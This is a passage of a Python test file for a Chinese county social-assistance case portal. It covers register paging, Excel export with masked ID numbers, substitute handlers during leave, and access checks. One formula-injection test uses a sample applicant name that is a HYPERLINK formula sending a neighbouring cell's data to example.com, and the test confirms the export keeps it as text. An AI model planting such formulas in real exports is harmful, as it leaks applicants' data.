    """A count of every matching case grew with the county's history: the register stops counting
    ten pages ahead, says "more than", and every further page still opens."""
    clerk = await acting_as(people, "wangxiaolei")
    made = [
        (await intake_flow.intake(clerk, application(people, applicant_name=f"申请人{n:02d}"))).id for n in range(51)
    ]

    def seen(found) -> tuple:
        return found.total, found.pages, found.more, [c.id for c in found.cases]

    assert seen(await register.list_cases(clerk, CaseFilter(), page_size=2)) == (22, 11, True, made[:2])
    assert seen(await register.list_cases(clerk, CaseFilter(page=11), page_size=2)) == (42, 21, True, made[20:22])
    assert seen(await register.list_cases(clerk, CaseFilter(page=20), page_size=2)) == (51, 26, False, made[38:40])
    assert (await register.list_cases(clerk, CaseFilter(page=99), page_size=2)).page == 26


async def test_the_register_s_next_and_previous_pages_seek_from_the_rows_next_to_them(any_db, people):
    """The pager's links carry the (due date, id) of the row next to the page they open: the same
    rows and counts as the page by its number, without skipping every row before it."""
    clerk = await acting_as(people, "wangxiaolei")
    made = [
        (await intake_flow.intake(clerk, application(people, applicant_name=f"申请人{n:02d}"))).id for n in range(51)
    ]

    async def seen(**place) -> tuple:
        found = await register.list_cases(clerk, CaseFilter(**place), page_size=2)
        return found.page, found.total, found.pages, found.more, [c.id for c in found.cases]

    async def page(number: int) -> register.CasePage:
        return await register.list_cases(clerk, CaseFilter(page=number), page_size=2)

    assert await seen(page=2, after=(await page(1)).last) == (2, 24, 12, True, made[2:4])
    assert await seen(page=11, after=(await page(10)).last) == (11, 42, 21, True, made[20:22])
    assert await seen(page=26, after=(await page(25)).last) == (26, 51, 26, False, made[50:])
    assert await seen(page=20, before=(await page(21)).first) == (20, 51, 26, False, made[38:40])
    assert await seen(page=1, before=(await page(2)).first) == (1, 22, 11, True, made[:2])
    # Past the end (cases gone since the link was made): the last page, as by its number.
    assert await seen(page=27, after=(await page(26)).last) == (26, 51, 26, False, made[50:])
    # A cursor is a place in a link, checked when read: a page number alone still finds the page.
    cursor = (await page(3)).last
    assert cursor is not None and register.Cursor.parse(str(cursor)) == cursor
    assert [
        register.Cursor.parse(text) for text in ("", "2026-01-01", "x_1", "2026-01-01_0", "2026-01-01_99999999999")
    ] == [None] * 5


async def test_the_register_exports_to_excel_with_chinese_headers_and_masked_ids(people, settings):
    case = await case_at(people, "accepted", applicant_name="李四")
    await case_at(people, line="medical", applicant_name="王五")
    async with portal(settings) as client:
        await sign_in(client, SLUG, "wangxiaolei")
        answer = await client.get(f"/t/{SLUG}/cases/export.xlsx", params={"line": "urban_dibao"})
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(BytesIO(answer.content)).active
    header, *rows = list(sheet.iter_rows(values_only=True))
    assert {"申请人", "身份证号", "到期日", "状态", "当前办理人"} <= set(header)
    assert len(rows) == 1  # the filter applies
    row = dict(zip(header, rows[0], strict=True))
    assert (row["编号"], row["申请人"], row["身份证号"], row["业务岗位"], row["状态"], row["当前办理人"]) == (
        case.id,
        "李四",
        MASKED_ID,
        "城市低保",
        "已受理",
        "王效雷",
    )
    assert row["到期日"].date() == case.due_on
    assert VALID_ID not in answer.content.decode("latin-1")


async def test_a_name_typed_as_a_formula_is_exported_as_text(people, settings):
    # A spreadsheet opening the register must not run what someone typed into a name (formula injection).
    typed = '=HYPERLINK("http://example.com/?"&D2,"详情")'
    await case_at(people, applicant_name=typed)
    async with portal(settings) as client:
        await sign_in(client, SLUG, "wangxiaolei")
        answer = await client.get(f"/t/{SLUG}/cases/export.xlsx")
    sheet = load_workbook(BytesIO(answer.content)).active
    header = [cell.value for cell in sheet[1]]
    cell = sheet[2][header.index("申请人")]
    assert (cell.value, cell.data_type) == (typed, "s")


# === open cases follow the substitute (同岗替代 第四条) ========================================================


async def test_open_cases_follow_the_substitute_during_a_leave_and_come_back_after(people):
    urban = await case_at(people, "accepted")
    temporary = await case_at(people, line="temporary")
    decided = await case_at(people, "not_accepted")  # finished: stays with its handler
    clerk = await acting_as(people, "wangxiaolei")

    async def acting() -> tuple[int, int, int]:
        return tuple([(await register.get_case(clerk, c.id)).acting_handler_id for c in (urban, temporary, decided)])

    async def moves() -> list[list[str]]:
        return [[e["note"] for e in await events_of(c.id, "acting_handler")] for c in (urban, temporary, decided)]

    absence = await leave(people, "wangxiaolei")
    await sweep_now()
    assert await acting() == (people["houweili"], people["zhuwenjun"], people["wangxiaolei"])
    assert await moves() == [["王效雷不在岗，由侯伟丽代为办理"], ["王效雷不在岗，由朱文君代为办理"], []]
    await sweep_now()
    assert len(sum(await moves(), [])) == 2  # a second sweep changes nothing

    await absences.decide(clerk, absence.id, AbsenceAction.RETURN)
    await sweep_now()
    await sweep_now()
    assert await acting() == (people["wangxiaolei"], people["wangxiaolei"], people["wangxiaolei"])
    assert [len(notes) for notes in await moves()] == [2, 2, 0]
    assert (await moves())[0][1] == "交回王效雷办理"
    back = await register.get_case(clerk, urban.id)
    assert (back.handler_id, back.first_receiver_id) == (people["wangxiaolei"], people["houweili"])


async def trip(people, username: str, *, hours: int = 3):
    """A brief official trip of ``username`` (started a minute ago), approved by the section head."""
    start = datetime.now(ZONE) - timedelta(minutes=1)
    absence = await absences.post(
        await acting_as(people, username),
        person_id=people[username],
        kind="official",
        reason="下乡入户核查",
        starts_at=start,
        ends_at=start + timedelta(hours=hours),
    )
    if absence.status == "pending":
        absence = await absences.decide(await acting_as(people, "head"), absence.id, AbsenceAction.APPROVE)
    return absence


async def test_nobody_away_acts_on_a_case_when_a_and_b_are_both_out(people):
    """王效雷 on leave, then both his backups out for three hours: his cases are uncovered, never his."""
    urban = await case_at(people, "accepted")
    temporary = await case_at(people, line="temporary")
    clerk = await acting_as(people, "wangxiaolei")

    async def acting() -> tuple[int | None, int | None]:
        return tuple([(await register.get_case(clerk, c.id)).acting_handler_id for c in (urban, temporary)])

    await leave(people, "wangxiaolei")
    await sweep_now()
    assert await acting() == (people["houweili"], people["zhuwenjun"])
    houweili_trip = await trip(people, "houweili")
    await trip(people, "zhuwenjun")
    await sweep_now()
    assert await acting() == (None, None)
    case = await register.get_case(clerk, urban.id)
    assert case.uncovered and case.as_dict()["uncovered"] is True
    head_inbox = await Notification.select(Notification.kind).where(Notification.user == people["head"])
    assert [n["kind"] for n in head_inbox].count("case.uncovered") == 2  # one message per line
    # A case received now starts uncovered too, never with the absent A holder.
    newcomer = await intake_flow.intake(clerk, application(people))
    assert (newcomer.handler_id, newcomer.acting_handler_id, newcomer.uncovered) == (people["wangxiaolei"], None, True)
    assert (await register.list_cases(clerk, CaseFilter(uncovered=True))).total == 3
    assert await db.counts(register.uncovered_count(await acting_as(people, "admin"))) == [3]
    await sweep_now()
    assert (
        await Notification.count().where(
            (Notification.user == people["head"]) & (Notification.kind == "case.uncovered")
        )
        == 2
    )  # told once: a second sweep changes nothing

    # The head picks 孙静 for the urban line: its cases follow her at once.
    await cover.pick(await acting_as(people, "head"), "urban_dibao", people["sunjing"])
    await sweep_now()
    assert (await acting())[0] == people["sunjing"]
    assert (await register.get_case(clerk, newcomer.id)).acting_handler_id == people["sunjing"]

    # 侯伟丽 returns: the pick ends and the urban cases follow her again.
    await absences.decide(await acting_as(people, "houweili"), houweili_trip.id, AbsenceAction.RETURN)
    await sweep_now()
    assert await acting() == (people["houweili"], None)
    notes = [e["note"] for e in await events_of(urban.id, "acting_handler")]
    assert notes == [
        "王效雷不在岗，由侯伟丽代为办理",
        "王效雷不在岗，城市低保无人可替岗，案件暂无人办理",
        "王效雷不在岗，由孙静代为办理",
        "王效雷不在岗，由侯伟丽代为办理",
    ]


async def a_full_case_file(people: dict[str, int]) -> casefile.CaseFile:
    """A posted case with a notice, a receipt, a signed survey, a resolved objection and an extension."""
    clerk = await acting_as(people, "wangxiaolei")
    case = await intake_flow.intake(clerk, application(people, received_on=today() - POSTING_OVER))
    await steps.issue_notice(clerk, case.id, ["户口簿", "收入证明"])
    for step in ROUTE["posted"]:
        await take_step(people, case.id, step)
    objection = await posting.record_objection(clerk, case.id, today(), "东关村村民", "申请人家有小轿车一辆")
    await posting.resolve_objection(clerk, case.id, objection, "经核查车辆已于去年报废")
    await steps.extend(await acting_as(people, "leader"), case.id, 3, "需外省协查户籍")
    return await flow_casefile.case_file(clerk, case.id)


def assert_every_part_read_back(folder: casefile.CaseFile) -> None:
    """The file's parts come as JSON from the database: dates, instants (in UTC) and flags as before."""
    (notice,) = folder.notices
    assert (notice.items, notice.issued_by_name, type(notice.late)) == (["户口簿", "收入证明"], "王效雷", bool)
    assert [(r.kind, r.number, r.issued_by_name) for r in folder.receipts] == [("accepted", 1, "王效雷")]
    assert folder.survey is not None and (folder.survey.visited_on, folder.survey.findings) == (today(), FINDINGS)
    assert sorted(i.person_name for i in folder.investigators) == ["侯伟丽", "王效雷"]
    assert [(p.starts_on, p.ends_on - p.starts_on, p.place) for p in folder.postings] == [
        (today() - POSTING_OVER, timedelta(days=6), PLACE)
    ]
    assert [(o.raised_on, o.resolution) for o in folder.objections] == [(today(), "经核查车辆已于去年报废")]
    (extension,) = folder.extensions
    assert (extension.working_days, extension.due_after > extension.due_before) == (3, True)
    assert extension.approved_by_name and folder.case.extension_days == 3
    assert [(e.at, e.id) for e in folder.events] == sorted((e.at, e.id) for e in folder.events)
    assert [e.kind for e in folder.events][-2:] == ["objection_resolved", "extension"]
    instants = [notice.issued_at, folder.survey.recorded_at, *(e.at for e in folder.events)]
    instants += [i.signed_at for i in folder.investigators] + [folder.objections[0].resolved_at]
    assert all(isinstance(at, datetime) and at.utcoffset() == timedelta(0) for at in instants)
    dates = [folder.survey.visited_on, extension.due_before, folder.postings[0].ends_on]
    assert all(type(day) is date for day in dates)
    assert (
        folder.posting is not None
        and not folder.posting_blocks_approval
        and sorted(folder.actions) == ["approve", "reject"]
    )


async def test_the_case_file_reads_back_every_part_as_written(people):
    assert_every_part_read_back(await a_full_case_file(people))


@pytest.mark.sqlite
async def test_the_case_file_reads_the_same_on_sqlite(sqlite_db):
    assert_every_part_read_back(await a_full_case_file(await demo_county()))


async def test_the_flows_add_what_the_absences_know_to_the_case_file_and_the_notice(people):
    """Cases and absences do not read each other: the case file's substitutions and the notice's
    substitutes are the flows' part, absent from the features' own answers."""
    clerk = await acting_as(people, "wangxiaolei")
    case = await case_at(people)
    absence = await leave(people, "wangxiaolei")
    await sweep((await acting_as(people, "admin")).tenant)

    folder = await flow_casefile.case_file(clerk, case.id)
    assert [(s.substitute_name, s.person_name) for s in folder.substitutions] == [("侯伟丽", "王效雷")]
    assert (await casefile.case_file(clerk, case.id)).substitutions == []

    admin = await acting_as(people, "admin")
    covered = await cover.covered_absence(admin, absence.id)
    assert {(s.line_code, s.person_id) for s in covered.substitutes} >= {("urban_dibao", people["houweili"])}
    assert (await absences.get_absence(admin, absence.id)).substitutes == ()


# === the pages ===========================================================================================


HTMX_WORK = {"HX-Request": "true", "HX-Target": "work"}  # a step posted from the case page


async def test_a_clerk_takes_a_case_through_the_pages(people, settings):
    async with portal(settings) as client:
        await sign_in(client, SLUG, "wangxiaolei")
        assert "受理新申请" in (await client.get(f"/t/{SLUG}/cases")).text
        assert (await client.get(f"/t/{SLUG}/cases/new")).status_code == 200
        received_on = eve_of_a_holiday()
        preview = await client.get(
            f"/t/{SLUG}/cases/due-preview", params={"line": "medical", "received_on": received_on.isoformat()}
        )
        assert str(nth_working_day_after(received_on, 5)) in preview.text, preview.text
        created = await post_form(
            client,
            f"/t/{SLUG}/cases",
            {
                "line": "urban_dibao",
                "applicant_name": "李四",
                "applicant_id_number": VALID_ID,
                "household_size": "2",
                "received_on": today().isoformat(),
                "first_receiver_id": str(people["wangxiaolei"]),
            },
        )
        assert created.status_code == 303, created.text
        base = created.headers["location"]
        case_id = int(base.rsplit("/", 1)[1])
        page = await client.get(base)
        assert page.status_code == 200 and MASKED_ID in page.text and VALID_ID not in page.text
        for step, data in (
            ("notice", {"items": ["低保申请书", "户口簿及家庭成员身份证复印件"], "other_items": "房产证明\n"}),
            ("accept", {}),
            (
                "survey",
                {
                    "visited_on": today().isoformat(),
                    "findings": FINDINGS,
                    "conclusion": CONCLUSION,
                    "investigators": [str(people["wangxiaolei"]), str(people["houweili"])],
                },
            ),
        ):
            answer = await post_form(
                client, f"{base}/{step}", data, headers={"HX-Request": "true", "HX-Target": "work"}
            )
            assert answer.status_code == 200, (step, answer.text[:2000])
            assert 'id="work"' in answer.text and "<html" not in answer.text  # the block, swapped in place
        notice = await MaterialNotice.select().where(MaterialNotice.case == case_id).output(load_json=True).first()
        assert notice["items"] == ["低保申请书", "户口簿及家庭成员身份证复印件", "房产证明"]
        receipt = await Receipt.select().where(Receipt.case == case_id).first()
        assert (await register.get_case(await acting_as(people, "wangxiaolei"), case_id)).status == "accepted"

        printed_notice = await client.get(f"{base}/notices/{notice['id']}")
        printed_receipt = await client.get(f"{base}/receipts/{receipt['id']}")
        evidence = await client.get(f"{base}/evidence")
        for printed in (printed_notice, printed_receipt):
            assert printed.status_code == 200
            assert MASKED_ID in printed.text
            assert CONCLUSION not in printed.text and FINDINGS not in printed.text
        assert "房产证明" in printed_notice.text
        assert "第 0001 号" in printed_receipt.text
        assert CONCLUSION in evidence.text  # the internal file for inspections has it


async def test_a_bad_intake_form_is_shown_again_with_the_reason_and_nothing_is_saved(people, settings):
    async with portal(settings) as client:
        await sign_in(client, SLUG, "wangxiaolei")
        async with nothing_changes():
            answer = await post_form(
                client,
                f"/t/{SLUG}/cases",
                {
                    "line": "urban_dibao",
                    "applicant_name": "李四",
                    "applicant_id_number": BAD_CHECKSUM_ID,
                    "household_size": "2",
                    "received_on": today().isoformat(),
                    "first_receiver_id": str(people["wangxiaolei"]),
                },
            )
    assert answer.status_code == 400
    assert "身份证号校验位不对" in answer.text and 'value="李四"' in answer.text


async def test_the_full_id_number_page_is_forbidden_to_staff_not_working_the_case(people, settings):
    case = await case_at(people)
    path = f"/t/{SLUG}/cases/{case.id}/id-number"
    async with portal(settings) as client:
        await sign_in(client, SLUG, "zhuwenjun")
        assert MASKED_ID in (await client.get(f"/t/{SLUG}/cases/{case.id}")).text
        async with nothing_changes():
            assert (await post_form(client, path, headers={"HX-Request": "true"})).status_code == 403
        await sign_in(client, SLUG, "wangxiaolei")
        shown = await post_form(client, path, headers={"HX-Request": "true"})
    assert shown.status_code == 200 and VALID_ID in shown.text
    assert await AuditRecord.count().where(AuditRecord.action == "case.reveal_id") == 1


async def test_papers_for_the_applicant_name_whoever_acts_on_the_case_now(people, settings):
    case = await case_at(people)
    await steps.issue_notice(await acting_as(people, "wangxiaolei"), case.id, ["户口簿"])
    notice = await MaterialNotice.select(MaterialNotice.id).where(MaterialNotice.case == case.id).first()
    await leave(people, "wangxiaolei")
    await sweep_now()
    async with portal(settings) as client:
        await sign_in(client, SLUG, "houweili")
        printed = await client.get(f"/t/{SLUG}/cases/{case.id}/notices/{notice['id']}")
    assert "请咨询经办人 侯伟丽" in printed.text and "王效雷" not in printed.text


@pytest.mark.sqlite
async def test_cases_follow_the_substitute_on_sqlite_too(sqlite_db):
    people = await demo_county()
    case = await case_at(people)
    await leave(people, "wangxiaolei")
    await sweep_now()
    clerk = await acting_as(people, "wangxiaolei")
    assert (await register.get_case(clerk, case.id)).acting_handler_id == people["houweili"]
    # The register's page and its bounded count in one statement, and the to-do badge's counts.
    found = await register.list_cases(clerk, CaseFilter(page=5))
    assert (found.total, found.page, found.more, [c.id for c in found.cases]) == (1, 1, False, [case.id])
    substitute = await acting_as(people, "houweili")
    assert await todo_count(substitute) == (await todo_of(substitute)).count
    # The dashboard's written-out reads in SQLite's dialect: the urgent cases, those ready for 审批,
    # the notices to decide and who is away.
    buckets = await urgency.urgent_cases(substitute, people["houweili"])
    assert all(isinstance(c["due_on"], date) for bucket in buckets.values() for c in bucket.cases)
    assert await register.awaiting_decision(await acting_as(people, "leader")) == []
    await leave(people, "houweili", starts=timedelta(days=1), approve=False)
    leader = await acting_as(people, "leader")
    notices = await absences.current_notices(leader, datetime.now(ZoneInfo("UTC")))
    to_decide, away = await absences.decisions_and_away(leader, notices)
    assert [a.person_id for a in to_decide] == [a.person_id for a in await absences.awaiting_decision(leader)]
    assert [a.person_id for a in to_decide] == [people["houweili"]]
    assert [a.person_id for a in away] == [people["wangxiaolei"]]
    changes = await recent_changes(leader, 3)
    assert len(changes) == 3 and all(row["at"].tzinfo is not None for row in changes)


async def test_the_substitute_is_told_with_a_link_to_the_cases_now_theirs(people, settings):
    case = await case_at(people)
    await leave(people, "wangxiaolei")
    await sweep_now()
    told = (
        await Notification.select(Notification.link)
        .where((Notification.user == people["houweili"]) & (Notification.kind == "case.acting"))
        .first()
    )
    assert told["link"] == f"/t/{SLUG}/cases?handler_id={people['houweili']}&open=1"
    async with portal(settings) as client:
        await sign_in(client, SLUG, "houweili")
        page = await client.get(told["link"])
    assert page.status_code == 200 and f"/t/{SLUG}/cases/{case.id}" in page.text
